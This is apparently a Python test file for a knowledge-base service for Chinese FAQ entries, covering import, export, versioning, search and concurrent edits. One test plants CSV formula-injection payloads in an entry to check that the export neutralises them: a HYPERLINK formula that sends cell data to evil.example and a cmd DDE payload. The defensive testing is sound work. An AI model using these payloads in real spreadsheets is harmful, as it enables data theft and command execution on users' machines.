"""Knowledge entries on both databases: ids kept on import, every change a version with who
and what, re-import idempotent, export that imports back, only current entries searched."""

from __future__ import annotations

import shutil
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy.orm import Session, sessionmaker
from sqlalchemy.orm.exc import StaleDataError

from knowledge import service
from knowledge.models import EntryStatus
from tests.conftest import SHARED, CityTemplate
from ticketing.actors import Actor
from ticketing.db import make_engine, make_session_factory
from ticketing.inputs import InvalidInput

FAQ = (SHARED / "kb" / "faq.tsv").read_text(encoding="utf-8")
EDITOR = Actor(id=None, name="编辑小王", role=Actor.system().role)
TODAY = date(2026, 12, 2)


def test_import_keeps_ids_and_reimport_is_idempotent(sessions: sessionmaker[Session]) -> None:
    with sessions() as s:
        first = service.import_tsv(session=s, actor=EDITOR, text=FAQ)
        s.commit()
    assert len(first.created) == 50 and first.created[13] == "kb014"
    with sessions() as s:
        again = service.import_tsv(session=s, actor=EDITOR, text=FAQ)
        s.commit()
        assert (again.created, again.updated, len(again.unchanged)) == ([], [], 50)
        entry = service.get_entry(session=s, entry_id="kb034")
        assert entry.valid_until == date(2027, 3, 15)
        assert entry.status == EntryStatus.PUBLISHED.value and entry.version == 1
        assert "暖气" in entry.keywords


def test_changed_row_is_a_new_version_with_history(sessions: sessionmaker[Session]) -> None:
    header, *rows = FAQ.splitlines()
    with sessions() as s:
        service.import_tsv(session=s, actor=EDITOR, text="\n".join([header, rows[13]]))
        s.commit()
    edited = rows[13].replace("详细可拨打12329。", "详细可拨打12329，或到管理部柜台咨询。")
    with sessions() as s:
        r = service.import_tsv(session=s, actor=Actor.system("cli:ops"),
                               text="\n".join([header, edited]))
        s.commit()
        assert r.updated == ["kb014"]
        entry = service.get_entry(session=s, entry_id="kb014")
        service.set_status(session=s, actor=EDITOR, entry=entry, status=EntryStatus.RETIRED)
        s.commit()
    with sessions() as s:
        entry = service.get_entry(session=s, entry_id="kb014")
        versions = service.history(session=s, entry=entry)
        assert [v.version for v in versions] == [1, 2, 3]
        assert [v.action for v in versions] == ["import", "import", "retire"]
        assert versions[1].changed == ["answer"] and versions[1].actor_name == "cli:ops"
        assert "管理部柜台" not in versions[0].snapshot["answer"]
        assert "管理部柜台" in versions[1].snapshot["answer"]
        assert versions[2].snapshot["status"] == "retired"
        # A re-import does not bring a retired entry back.
        service.import_tsv(session=s, actor=EDITOR, text="\n".join([header, edited]))
        assert service.get_entry(session=s, entry_id="kb014").status == "retired"


def test_export_imports_back_into_the_same_entries(sessions: sessionmaker[Session]) -> None:
    with sessions() as s:
        service.import_tsv(session=s, actor=EDITOR, text=FAQ)
        entry = service.create_entry(
            session=s, actor=EDITOR, fields=service.EntryFields(
                title="冬季取暖补贴怎么申领", answer="符合条件的家庭向街道提出申请。\n审核后发放。",
                category="heating", keywords=("取暖补贴", "采暖补助"), synonyms=("烤火费",),
                valid_from=date(2026, 11, 1), valid_until=date(2027, 3, 31)))
        s.commit()
        exported = service.export_tsv(session=s)
    assert exported.splitlines()[0].split("\t")[:6] == FAQ.splitlines()[0].split("\t")
    with sessions() as s:
        r = service.import_tsv(session=s, actor=EDITOR, text=exported)
        assert len(r.unchanged) == 51 and not r.created and not r.updated
        again = service.get_entry(session=s, entry_id=entry.id)
        assert again.synonyms == ["烤火费"] and again.status == "draft"
        assert again.answer.endswith("审核后发放。")


def test_export_runs_no_formula_in_a_spreadsheet_and_imports_back_the_same(
        sessions: sessionmaker[Session]) -> None:
    """An editor's entry whose cells begin as formulas (=, -, @, full-width ＝): the export,
    opened in Excel, ran them (the trial saw "=HYPERLINK(…)" written as is, 2026-12-06);
    each cell is now written as the tickets' CSV writes it, after a quote, and the file
    imports back to the entry as it was."""
    with sessions() as s:
        entry = service.create_entry(
            session=s, actor=EDITOR, entry_id="kb-formula", fields=service.EntryFields(
                title='=HYPERLINK("http://evil.example/?"&B2,"点此查看")',
                answer="-2+3+cmd|' /C calc'!A0", category="other",
                keywords=("@SUM(1+1)", "取暖"), synonyms=("＝1+1",)))
        s.commit()
        exported = service.export_tsv(session=s)
    (row,) = [line.split("\t") for line in exported.splitlines() if line.startswith("kb-formula")]
    texts = [cell.strip('"') for cell in (row[2], row[3], row[4], row[6])]
    assert all(cell.startswith("'") for cell in texts), row
    with sessions() as s:
        r = service.import_tsv(session=s, actor=EDITOR, text=exported)
        assert r.unchanged == ["kb-formula"] and not r.updated
        again = service.get_entry(session=s, entry_id=entry.id)
        assert again.title.startswith("=HYPERLINK(") and again.answer.startswith("-2+3")
        assert again.keywords == ["@SUM(1+1)", "取暖"] and again.synonyms == ["＝1+1"]

def test_bad_rows_refuse_the_whole_file(sessions: sessionmaker[Session]) -> None:
    header = FAQ.splitlines()[0]
    bad = [f"{header}\nkb900\tother\t标题\t回答\t\t2027-13-01",
           f"{header}\nkb900\tnosuch\t标题\t回答\t\t",
           f"{header}\nkb 900\tother\t标题\t回答\t\t",
           f"{header}\nkb900\tother\t\t回答\t\t"]
    for text in bad:
        with sessions() as s, pytest.raises(InvalidInput, match="line 2"):
            service.import_tsv(session=s, actor=EDITOR, text=text)


def test_only_published_current_entries_are_found(sessions: sessionmaker[Session]) -> None:
    with sessions() as s:
        service.import_tsv(session=s, actor=EDITOR, text=FAQ)
        s.commit()
    question = "暖气费在哪里交啊能不能在网上交"
    with sessions() as s:
        assert service.search(session=s, text=question, today=TODAY).answer.id == "kb035"
        # The heating-season entries end on 2027-03-15: from the next day they are not found.
        later = service.search(session=s, text=question, today=date(2027, 3, 16))
        assert all(h.id not in {"kb034", "kb035", "kb036"} for h in later.hits)
        assert later.answer is None
        entry = service.get_entry(session=s, entry_id="kb035")
        service.set_status(session=s, actor=EDITOR, entry=entry, status=EntryStatus.RETIRED)
        s.commit()
    with sessions() as s:
        r = service.search(session=s, text=question, today=TODAY)
        assert "kb035" not in [h.id for h in r.hits]
        draft = service.create_entry(session=s, actor=EDITOR, fields=service.EntryFields(
            title="暖气费交费渠道", answer="可以在供热单位公众号交。", category="heating",
            keywords=("暖气费", "交暖气费")))
        s.commit()
        assert draft.id not in [h.id for h in service.search(
            session=s, text=question, today=TODAY).hits]
        service.set_status(session=s, actor=EDITOR, entry=draft, status=EntryStatus.PUBLISHED)
        s.commit()
        assert service.search(session=s, text=question, today=TODAY).hits[0].id == draft.id


def test_concurrent_edit_is_refused_not_lost(sessions: sessionmaker[Session]) -> None:
    with sessions() as s:
        service.import_tsv(session=s, actor=EDITOR, text=FAQ)
        s.commit()
    with sessions() as first, sessions() as second:
        mine = service.get_entry(session=first, entry_id="kb001")
        first.commit()  # loaded, then the editor thinks for a while
        theirs = service.get_entry(session=second, entry_id="kb001")
        service.set_status(session=second, actor=EDITOR, entry=theirs,
                           status=EntryStatus.RETIRED)
        second.commit()
        with pytest.raises(StaleDataError):
            service.update_entry(session=first, actor=EDITOR, entry=mine, fields=service.EntryFields(
                title=mine.title, answer="改过的答复。", category=mine.category))
        first.rollback()
    with sessions() as s:
        entry = service.get_entry(session=s, entry_id="kb001")
        assert entry.status == "retired" and entry.version == 2
        assert [v.action for v in service.history(session=s, entry=entry)] == ["import", "retire"]



def test_databases_with_the_same_entries_share_one_index(
        sqlite_faq_template: CityTemplate, tmp_path: Path) -> None:
    # The FAQ's index costs ~0.5 CPU-s to build: a second database holding the very same
    # published entries searches the index the first one built, and an edit in either is
    # an index of its own, so neither sees the other's change. (A process-wide cache, so
    # one backend is enough: two copies of the FAQ template on SQLite.)
    one, two = [], []
    for name, factories in (("one.db", one), ("two.db", two)):
        shutil.copy(sqlite_faq_template.location, tmp_path / name)
        factories.append(make_session_factory(make_engine(f"sqlite:///{tmp_path / name}")))
    question = "暖气费在哪里交啊能不能在网上交"
    with one[0]() as s:
        first = service._index(s)
    with two[0]() as s:
        assert service._index(s) is first
        entry = service.get_entry(session=s, entry_id="kb035")
        service.set_status(session=s, actor=EDITOR, entry=entry, status=EntryStatus.RETIRED)
        s.commit()
    with two[0]() as s:
        assert service._index(s) is not first
        assert "kb035" not in [h.id for h in service.search(
            session=s, text=question, today=TODAY).hits]
    with one[0]() as s:
        assert service._index(s) is first
        assert service.search(session=s, text=question, today=TODAY).answer.id == "kb035"
